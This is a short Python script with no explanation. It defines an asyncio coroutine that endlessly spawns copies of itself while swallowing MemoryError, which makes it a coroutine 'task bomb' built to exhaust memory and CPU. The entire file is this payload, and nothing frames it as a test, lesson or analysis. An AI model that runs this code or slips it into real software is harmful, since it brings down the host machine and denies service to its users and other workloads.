import asyncio

tasks = set()


async def spread():
    while True:
        try:
            tasks.add(asyncio.create_task(spread()))
        except MemoryError:
            pass
        await asyncio.sleep(0)


asyncio.run(spread())
